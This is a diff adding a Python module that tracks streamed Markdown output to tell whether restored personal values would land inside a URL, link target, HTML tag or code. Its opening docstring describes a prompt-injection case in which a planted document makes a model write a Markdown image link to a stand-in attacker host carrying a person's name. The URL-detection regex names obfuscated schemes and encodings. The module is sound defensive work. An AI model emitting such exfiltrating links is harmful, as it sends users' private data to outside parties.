@@ -1,0 +1,281 @@
+"""Where in an answer one is: inside a link, inside code, or in running text.
+
+Restored values must never stand in a URL or a link's target: a planted document could make a model
+write `![](https://evil.example/?q=[성명_1])`, and a reader's program would send the name away. The
+tracker is fed, in pieces of any size, what people will read, restored values as a plain sign; it
+answers whether what comes next would stand inside a link or inside code. What it cannot tell it
+takes for a link. It holds no more than a few hundred characters.
+
+Markdown: CommonMark 0.31 (links, link reference definitions, autolinks, raw HTML, code) and GFM
+(extended autolinks). URLs: RFC 3986; browsers also read `https:/x`, `\\` for `/`, and other dots.
+"""
+
+import re
+from enum import Enum, auto
+from typing import NamedTuple
+
+_LONGEST_TOKEN = 512
+_KEPT_OF_TOKEN = 128
+_DOT = "[.．。｡]"
+_SLASH = r"(?:/|／|&#(?:47|x2f);?|&sol;|%2f)"
+_DOMAIN_ENDS = rf"{_DOT}(?:[a-z]{{2,63}}|xn--[a-z0-9-]+|한국|닷컴|닷넷)(?![^\W_])"
+
+# The beginning of a URL in a run of text without spaces; after it everything belongs to the URL.
+_URL_BEGINS = re.compile(
+    rf"{_SLASH}{{2}}|\\/\\/|\\\\[\w.-]+\\"
+    r"|(?<![^\W_])www[.．。｡0-9]"
+    r"|(?<![a-z])(?:https?|ftps?|wss?|data|mailto|sms|javascript|vbscript|file|blob|urn|sips?"
+    r"|xmpp|magnet|view-source)(?::|：|%3a|&colon;|&#(?:58|x3a);)"
+    rf"|[^\W_]{_DOMAIN_ENDS}(?::[0-9]*)?(?:[?#\\]|{_SLASH})"
+    r"|(?<![0-9.])[0-9]{1,3}(?:\.[0-9]{1,3}){3}(?::[0-9]+)?/"
+    r"|localhost(?::[0-9]+)?/|\[[0-9a-f:.]*::?[0-9a-f:.]*\](?::[0-9]+)?/"
+    r"|(?<![a-z])(?:href|src|srcset|action|formaction|poster|background|ping)="
+    r"|(?<![a-z])url\(",
+    re.IGNORECASE,
+)
+_HOST_AHEAD = re.compile(rf"[\w.．。｡~%+-]*?{_DOMAIN_ENDS}|[\w.~%+-]*@[\w\[]", re.IGNORECASE)
+_AHEAD_RUN = re.compile(r"[\w.．。｡~%+@-]{0,80}")
+_LONGEST_AHEAD = 80
+# Korean offices name files after people; none of these is a top-level domain (IANA root zone).
+_FILE_AHEAD = re.compile(
+    r"[\w-]*\.(?:hwpx?|pdf|docx?|xlsx?|pptx?|txt|csv|jpe?g|png|json|xml)(?![\w/.@-])", re.IGNORECASE
+)
+_SPECIAL = re.compile(r"[\[\]()<>`~\n]")
+_TAG_BEGINS = re.compile(r"[A-Za-z/!?]")
+_TOKEN_ENDS = re.compile(r"[\s<>]")
+_LINE_LEADS = frozenset(" \t>*+-0123456789.)")
+
+
+class _In(Enum):
+    TEXT = auto()
+    TARGET = auto()  # ](…)
+    TAG = auto()  # <…>
+    DEFINITION = auto()  # [x]: …
+
+
+class _Code(NamedTuple):
+    """What opened the code one is in; `line`: a block whose first line has not ended yet."""
+
+    signs: str
+    block: bool
+    line: bool
+
+
+_NO_CODE = _Code("", block=False, line=False)
+
+
+class LinkTracker:
+    """Follows the text that people will read; ask `in_link` and `in_code` between pieces."""
+
+    __slots__ = (
+        "_before",
+        "_blank",
+        "_code",
+        "_depth",
+        "_equals",
+        "_label",
+        "_line_start",
+        "_place",
+        "_quote",
+        "_seen",
+        "_ticks",
+        "_ticks_at_start",
+        "_token",
+        "_url",
+    )
+
+    def __init__(self) -> None:
+        self._place = _In.TEXT
+        self._token = ""  # what stands since the last space; the URL, if there is one, is in it
+        self._url = False  # the token's forgotten beginning held a URL
+        self._before = ""  # the character before
+        self._blank = True  # nothing but spaces in this line yet
+        self._line_start = True  # nothing but spaces, quote and list signs in this line yet
+        self._label = False  # inside a bracket that began a line: a definition's label, perhaps
+        self._seen = False  # a definition's target has begun
+        self._depth = 0
+        self._quote = ""
+        self._equals = False  # in a tag: what stood last, spaces aside, was =
+        self._ticks = ""  # the run of ` or ~ that is still growing
+        self._ticks_at_start = False
+        self._code = _NO_CODE
+
+    @property
+    def in_code(self) -> bool:
+        """Whether the next character would stand in a Markdown code span or block."""
+        return bool((self._after_run() if self._ticks else self._code).signs)
+
+    @property
+    def in_link(self) -> bool:
+        """Whether the next character would stand in a URL, a link's target or an HTML tag."""
+        if self._place is not _In.TEXT or self._url:
+            return True
+        return bool(self._token) and _URL_BEGINS.search(self._token) is not None
+
+    def word(self) -> None:
+        """A restored value has passed: a plain word, whatever it holds."""
+        self._step("가")
+
+    def feed(self, text: str) -> None:
+        """Follows text that people will read as it stands."""
+        if self._place is _In.TEXT and not self._ticks and not _SPECIAL.search(text):
+            if text:
+                self._plain(text)
+            return
+        for char in text:
+            self._step(char)
+
+    def _plain(self, text: str) -> None:
+        """The usual case: running text, no sign of Markdown or HTML, no end of a line."""
+        if self._before in ("]", "<"):
+            self._step(text[0])
+            text = text[1:]
+            if self._place is not _In.TEXT:
+                self.feed(text)
+                return
+        if not text:
+            return
+        self._before = text[-1]
+        if self._line_start or self._blank:
+            self._line_start = self._line_start and _LINE_LEADS.issuperset(text)
+            self._blank = self._blank and text.isspace()
+        pieces = text.split()
+        if not pieces or text[-1].isspace():
+            self._new_token()
+        elif len(pieces) > 1 or text[0].isspace():
+            self._new_token()
+            self._extend(pieces[-1])
+        else:
+            self._extend(text)
+
+    def _new_token(self) -> None:
+        self._token, self._url = "", False
+
+    def _extend(self, text: str) -> None:
+        self._token += text
+        if len(self._token) > _LONGEST_TOKEN:
+            self._url = self._url or _URL_BEGINS.search(self._token) is not None
+            self._token = self._token[-_KEPT_OF_TOKEN:]
+
+    def _step(self, char: str) -> None:
+        before, self._before = self._before, char
+        if self._tick(char):
+            return
+        if self._place is _In.TEXT:
+            self._text(char, before)
+        elif self._place is _In.TARGET:
+            self._target(char, before)
+        elif self._place is _In.TAG:
+            self._tag(char)
+        else:
+            self._definition(char)
+        if _TOKEN_ENDS.match(char):
+            self._new_token()
+        else:
+            self._extend(char)
+        self._line(char)
+
+    def _line(self, char: str) -> None:
+        if char == "\n":
+            if self._blank:
+                self._leave()  # nothing of Markdown but a block of code reaches over an empty line
+                self._label = False
+                if not self._code.block:
+                    self._code = _NO_CODE
+            if self._code.line:
+                self._code = self._code._replace(line=False)
+            self._blank = self._line_start = True
+            return
+        if self._line_start and char not in _LINE_LEADS:
+            self._line_start = False
+        if not char.isspace():
+            self._blank = False
+
+    def _leave(self) -> None:
+        self._place, self._quote, self._depth, self._seen = _In.TEXT, "", 0, False
+
+    def _text(self, char: str, before: str) -> None:
+        if self._code.block:
+            return
+        if char == "(" and before == "]":
+            self._place, self._depth = _In.TARGET, 1
+        elif char == ":" and before == "]" and self._label:
+            self._place, self._label = _In.DEFINITION, False
+        elif before == "<" and _TAG_BEGINS.match(char):
+            self._place, self._equals = _In.TAG, False
+        elif before == "]":
+            self._label = False
+        if char == "[":
+            self._label = self._line_start
+        elif char == "^" and before == "[":
+            self._label = False  # a footnote's text is text
+
+    def _target(self, char: str, before: str) -> None:
+        if self._quote:
+            self._quote = "" if char in (self._quote, "\n") else self._quote
+        elif char == "<" and not self._seen:
+            self._quote = ">"
+        elif before != "\\":
+            self._depth += (char == "(") - (char == ")")
+        self._seen = self._seen or not char.isspace()
+        if self._depth <= 0:
+            self._leave()
+
+    def _tag(self, char: str) -> None:
+        if self._quote:
+            self._quote = "" if char == self._quote else self._quote
+        elif char in "\"'" and self._equals:
+            self._quote = char
+        elif char == ">":
+            self._leave()
+        self._equals = char == "=" or (self._equals and char.isspace())
+
+    def _definition(self, char: str) -> None:
+        if char == "<" and not self._seen:
+            self._place, self._equals = _In.TAG, False
+        elif not char.isspace():
+            self._seen = True
+        elif self._seen:
+            self._leave()
+
+    def _tick(self, char: str) -> bool:
+        """Counts runs of ` and ~; a finished run opens or closes code. True if it took the sign."""
+        if char in "`~" and (not self._ticks or self._ticks[0] == char):
+            if not self._ticks:
+                self._ticks_at_start = self._blank
+            self._ticks = (self._ticks + char)[:_LONGEST_TOKEN]
+            self._blank = self._line_start = False
+            self._extend(char)
+            return True
+        if self._ticks:
+            self._code, self._ticks = self._after_run(), ""
+            return self._tick(char)
+        return False
+
+    def _after_run(self) -> _Code:
+        """The code one is in behind the run of signs that has just ended."""
+        run, code = self._ticks, self._code
+        block = len(run) >= 3 and self._ticks_at_start
+        if not code.signs:
+            return _Code(run, block, block) if block or run[0] == "`" else code
+        if run[0] != code.signs[0]:
+            return code
+        if code.block and not code.line:
+            return _NO_CODE if block and len(run) >= len(code.signs) else code
+        # A block's own first line holds no further sign of its kind: then it was no block.
+        return _NO_CODE if len(run) == len(code.signs) else code._replace(block=False)
+
+
+def host_ahead(behind: str, whole: bool) -> bool | None:
+    """Whether what stands behind a surrogate makes it part of a host's name or an address.
+
+    None: more text is needed to tell. `whole` says that no more will come.
+    """
+    run = _AHEAD_RUN.match(behind)
+    if run is None or not run[0]:
+        return None if not behind and not whole else False
+    if run.end() == len(behind) and not whole and run.end() < _LONGEST_AHEAD:
+        return None
+    if _FILE_AHEAD.match(behind):
+        return False
+    return _HOST_AHEAD.match(behind) is not None
